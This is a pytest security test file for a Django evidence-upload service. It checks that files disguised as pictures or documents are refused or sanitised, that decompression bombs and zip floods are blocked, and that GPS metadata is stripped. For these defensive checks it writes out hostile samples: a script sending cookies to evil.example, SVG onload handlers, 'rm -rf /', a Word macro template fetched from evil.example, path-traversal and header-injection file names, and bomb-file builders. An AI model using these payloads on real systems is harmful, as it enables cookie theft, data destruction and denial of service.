"""Someone with an account hands in evidence that runs at its reader, costs the server dear, or tells a place.

Each file is handed in as a browser would, by the form; what comes back is what a colleague's browser gets.
"""

import io
import os
import random
import resource
import struct
import subprocess
import sys
import time
import zlib
from contextlib import suppress
from zipfile import ZIP_STORED, ZipFile

import pytest
from django.conf import settings as project
from django.test import Client
from hypothesis import given
from hypothesis import settings as how_often
from hypothesis import strategies as st
from PIL import Image

from sucharit.capture import store
from sucharit.capture.models import WatchedLink
from sucharit.evidence import actions, taking
from sucharit.evidence.models import Evidence
from sucharit.evidence.pictures import NotAPicture, redraw
from sucharit.evidence.tests.handed_in import PDF, Office, docx, opened, photo, upload
from sucharit.verbs.refusals import Refused

ADD = "/desk/evidence/north/add/"
SCRIPT = b"<html><script>document.location='https://evil.example/'+document.cookie</script></html>"


@pytest.fixture
def office(db, settings, tmp_path):
    settings.VAR = tmp_path
    return Office()


@pytest.fixture
def oil(office):
    client = Client()
    client.force_login(office.oil, backend=project.AUTHENTICATION_BACKENDS[0])
    return client


def hand_in(client, data, name="photo.jpg"):
    return client.post(ADD, {"files": [upload(data, name)], "type": "photo"})


# — what runs at the reader —


@pytest.mark.parametrize("format", ["JPEG", "PNG", "WEBP", "AVIF"])
def test_a_picture_that_is_a_page_or_an_archive_too_leaves_as_a_picture_alone(office, oil, format):
    archive = io.BytesIO()
    with ZipFile(archive, "w") as package:
        package.writestr("evil.html", SCRIPT)
    comment = {"comment": SCRIPT} if format == "JPEG" else {}
    assert hand_in(oil, photo(format=format, **comment) + SCRIPT + archive.getvalue()).status_code == 302
    piece = Evidence.objects.get()
    for content in (piece.content, piece.thumbnail):
        data = store.get(content.pk)
        assert b"script" not in data
        assert b"PK\x03\x04" not in data
    answer = oil.get(f"/desk/evidence/north/{piece.pk}/picture/")
    assert answer.headers["Content-Type"] in ("image/jpeg", "image/png")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (SCRIPT, "page.jpg"),
        (SCRIPT, "page.pdf"),
        (b"\xef\xbb\xbf" + SCRIPT, "page.png"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "drawing.jpg"),
        (b"<?xml version='1.0'?><!DOCTYPE svg><svg onload='alert(1)'/>", "drawing.webp"),
        (b"\xff\xd8\xff" + SCRIPT, "photo.jpg"),  # begins as a JPEG does
        (b"\x89PNG\r\n\x1a\n" + SCRIPT, "photo.png"),
        (b"RIFF\x00\x00\x00\x00WEBP" + SCRIPT, "photo.webp"),
        (b"\x00\x00\x00\x1cftypavif" + SCRIPT, "photo.avif"),
        (b"#!/bin/sh\nrm -rf /\n", "plan.doc"),
        (b"MZ\x90\x00" + b"\0" * 500, "report.docx"),
        (b"%!PS-Adobe-3.0\n", "paper.pdf"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 900, "installer.doc"),  # an .msi begins so
    ],
)
def test_what_only_claims_to_be_a_picture_or_a_paper_is_refused_by_name(office, oil, data, name):
    answer = hand_in(oil, data, name)
    assert answer.status_code == 422
    assert name in answer.content.decode()
    assert not Evidence.objects.exists()


def test_a_paper_with_a_page_inside_is_saved_and_never_shown(office, oil):
    data = b"<!-- --> %PDF-1.7\n" + SCRIPT
    if hand_in(oil, data, "plan.html").status_code == 302:
        piece = Evidence.objects.get()
        assert piece.file_name.endswith(".pdf")
    assert hand_in(oil, PDF + SCRIPT, "plan.hta").status_code == 302
    for piece in Evidence.objects.all():
        answer = oil.get(f"/desk/evidence/north/{piece.pk}/file/")
        assert answer.headers["Content-Type"] == "application/octet-stream"
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert oil.get(f"/desk/evidence/north/{piece.pk}/picture/").status_code == 404


@pytest.mark.parametrize(
    "parts",
    [
        {"word__vbaProject_bin": "x"},
        {"word__activeX__activeX1_xml": "x"},
        {
            "word___rels__settings_xml_rels": '<Relationship Type="x/attachedTemplate" '
            'Target="https://evil.example/macro.dotm" TargetMode="External"/>'
        },
        {
            "word___rels__settings_xml_rels": "<Relationship Type='x/attachedTemplate' "
            "Target='\\\\evil.example\\share\\macro.dotm' TargetMode='External'/>"
        },
        {  # by another name, and written so that it reads otherwise
            "word___rels__other_xml_rels": '<Relationship TargetMode="External" '
            'Target = "&#104;ttps://evil.example" Type="x/attached&#84;emplate"/>'
        },
    ],
)
def test_a_word_file_that_runs_a_macro_of_its_own_or_fetches_one_is_refused(office, oil, parts):
    assert hand_in(oil, renamed(docx(**parts)), "report.docx").status_code == 422
    assert not Evidence.objects.exists()


def test_a_word_file_made_from_a_template_of_its_own_computer_is_taken(office, oil):
    usual = (
        '<Relationship Type="x/attachedTemplate" TargetMode="External" '
        'Target="file:///C:\\Users\\somchai\\Templates\\Normal.dotm"/>'
    )
    data = renamed(docx(word___rels__settings_xml_rels=usual))
    assert hand_in(oil, data, "report.docx").status_code == 302


def renamed(data: bytes) -> bytes:
    """The package with its part of relations called as Word calls it."""
    out = io.BytesIO()
    with ZipFile(io.BytesIO(data)) as old, ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name.replace("/.rels/", "/_rels/"), old.read(name))
    return out.getvalue()


@given(name=st.text(max_size=300))
@how_often(max_examples=30, deadline=None)
def test_whatever_a_file_is_called_its_name_leads_nowhere_and_its_ending_is_of_its_kind(name):
    file = taking.take(NamedFile(name, PDF))
    assert file.name.lower().endswith(".pdf")
    assert len(file.name) <= 200
    assert not any(sign in file.name for sign in "/\\\r\n\0\u202e\u2066")


class NamedFile:
    """A file with a name that Django's own parser would have cut already: no one relies on it."""

    def __init__(self, name: str, data: bytes) -> None:
        self.name, self.size, self._data = name, len(data), data

    def read(self) -> bytes:
        return self._data


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "C:\\Windows\\win.ini",
        "a\r\nSet-Cookie: x=1",
        "photo\u202egpj.exe",
        "\0",
        "." * 50,
    ],
)
def test_a_refusal_shows_no_path_and_no_hidden_sign_of_a_name(name):
    with pytest.raises(Refused) as refusal:
        taking.take(NamedFile(name, b"MZ\x90\x00"))
    said = str(refusal.value)
    assert not any(sign in said for sign in ("..", "\\", "\r", "\n", "\0", "\u202e", "etc/"))


# — what costs the server dear —


def png_of(width: int, height: int, data: bytes) -> bytes:
    """A PNG that says it is so large, whatever its data."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


@pytest.mark.parametrize(
    ("width", "height"), [(60_000, 60_000), (2**31 - 1, 1), (1, 2**31 - 1), (2**31 - 1, 2**31 - 1), (0, 5)]
)
def test_a_picture_that_claims_to_be_huge_is_refused_within_a_second_or_two(width, height):
    began = time.monotonic()
    with pytest.raises(NotAPicture):
        redraw(png_of(width, height, zlib.compress(b"\0" * 1_000)))
    assert time.monotonic() - began < 5


def test_a_picture_that_unpacks_to_a_thousand_times_its_size_takes_no_memory_of_the_server():
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    bomb = png_of(7_700, 7_700, zlib.compress(b"\0" * (7_700 * 3 + 1) * 7_700, 9))
    assert len(bomb) < 250_000
    held = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert opened(redraw(bomb).data).size == (2_000, 2_000)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - max(before, held) < 50_000  # kB


def test_texts_in_a_png_that_unpack_without_end_are_refused():
    text = b"Comment\0\0" + zlib.compress(b"\0" * 200_000_000, 9)
    whole = photo((8, 8), format="PNG")
    chunk = struct.pack(">I", len(text)) + b"zTXt" + text + struct.pack(">I", zlib.crc32(b"zTXt" + text))
    with suppress(NotAPicture):  # or drawn without them
        assert len(redraw(whole[:33] + chunk + whole[33:]).data) < 10_000


def slow_jpeg(side: int = 7_000, scans: int = 400) -> bytes:
    """A progressive JPEG whose last scan comes hundreds of times: each goes over all pixels."""
    out = io.BytesIO()
    Image.new("RGB", (side, side)).save(out, "JPEG", progressive=True, quality=20)
    data = out.getvalue()
    start = data.rindex(b"\xff\xda")
    return data[:start] + data[start:-2] * scans + b"\xff\xd9"


@pytest.mark.slow
def test_a_form_full_of_slow_pictures_keeps_no_worker_for_long(office):
    slow = [upload(slow_jpeg(scans=400 + number), f"{number}.jpg") for number in range(20)]
    assert sum(file.size for file in slow) < 10 * 2**20
    began = time.monotonic()
    with pytest.raises(Refused):
        actions.add_files(
            by=office.oil,
            organisation=office.north,
            uploads=slow,
            facts=actions.EvidenceFacts("photo"),
        )
    assert time.monotonic() - began < 60


CROWDED = """
import io, resource, sys, time
from zipfile import ZipFile
import django
django.setup()
from sucharit.evidence.taking import take
data = sys.stdin.buffer.read()
class File:
    name, size = "report.docx", len(data)
    def read(self): return data
before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
try:
    take(File())
except Exception as refusal:
    assert type(refusal).__name__ == "Refused", refusal
else:
    raise AssertionError("taken")
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before, time.monotonic() - began)
"""


def test_a_package_of_two_hundred_thousand_parts_is_refused_before_they_are_listed():
    """Ten megabytes of names took 150 MB and seconds of the server's own process."""
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_STORED) as package:
        package.writestr("[Content_Types].xml", "")
        package.writestr("word/document.xml", "")
    data = crowded(out.getvalue(), 190_000)
    assert len(data) <= taking.MAX_BYTES
    surroundings = {**os.environ, "DJANGO_SETTINGS_MODULE": "sucharit.config.settings_for_tests"}
    said = subprocess.run(
        [sys.executable, "-c", CROWDED], input=data, capture_output=True, check=True, env=surroundings
    )
    memory, seconds = map(float, said.stdout.split())
    assert memory < 30_000  # kB
    assert seconds < 0.5


def crowded(package: bytes, more: int) -> bytes:
    """The package with so many more entries in its directory, all of one part."""
    end = package.rindex(b"PK\x05\x06")
    start = package.index(b"PK\x01\x02")
    directory = package[start:end]
    name = b"abcde"
    entry = struct.pack(
        "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0
    )
    directory += (entry + name) * more
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(directory), start, 0)
    return package[:start] + directory + tail


# — what has no end —


def test_the_same_address_again_orders_no_fetch_again(office):
    """Else one account could have a stranger's server asked without end, with no trace in the history."""
    add = {"by": office.oil, "organisation": office.north, "url": "https://victim.example/page"}
    actions.add_link(**add)
    WatchedLink.objects.update(due=None, why="")
    for _again in range(3):
        actions.add_link(**add)
    assert WatchedLink.objects.get().due is None


def test_no_one_adds_evidence_without_end(office, monkeypatch):
    monkeypatch.setattr("sucharit.evidence.actions.adding.MOST_A_DAY", 3)
    for number in range(3):
        actions.add_link(by=office.oil, organisation=office.north, url=f"https://victim.example/{number}")
    with pytest.raises(Refused):
        actions.add_link(by=office.oil, organisation=office.north, url="https://victim.example/4")
    with pytest.raises(Refused):
        actions.add_file(by=office.oil, organisation=office.north, upload=upload(PDF), type="document")
    actions.add_link(by=office.nok, organisation=office.north, url="https://victim.example/4")


# — what gives away a place —


def test_a_public_picture_tells_no_place_and_its_address_can_not_be_guessed(office, client):
    where = Image.Exif()
    where.get_ifd(0x8825).update({1: "N", 2: (18.0, 47.0, 30.0), 3: "E", 4: (98.0, 59.0, 0.0)})
    piece = actions.add_file(
        by=office.oil,
        organisation=office.north,
        upload=upload(photo(exif=where)),
        type="photo",
        may_be_public=True,
    )
    actions.publish(by=office.dao, pieces=[piece])
    piece.refresh_from_db()
    answer = client.get(f"/desk/evidence/public/{piece.public_link}/picture/")
    assert answer.status_code == 200
    assert not opened(answer.content).getexif()
    assert b"Exif" not in answer.content
    for guess in (str(piece.pk), piece.content_id[:16], piece.public_link[:-1] + random.choice("abc")):
        if guess != piece.public_link:
            assert client.get(f"/desk/evidence/public/{guess}/picture/").status_code == 404


def test_no_public_address_leads_to_what_was_never_published(office, client):
    piece = actions.add_file(
        by=office.oil, organisation=office.north, upload=upload(photo()), type="photo", may_be_public=True
    )
    assert piece.public_link is None
    for end in ("file", "picture"):
        assert client.get(f"/desk/evidence/public/None/{end}/").status_code == 404
        assert client.get(f"/desk/evidence/north/{piece.pk}/{end}/").status_code == 302
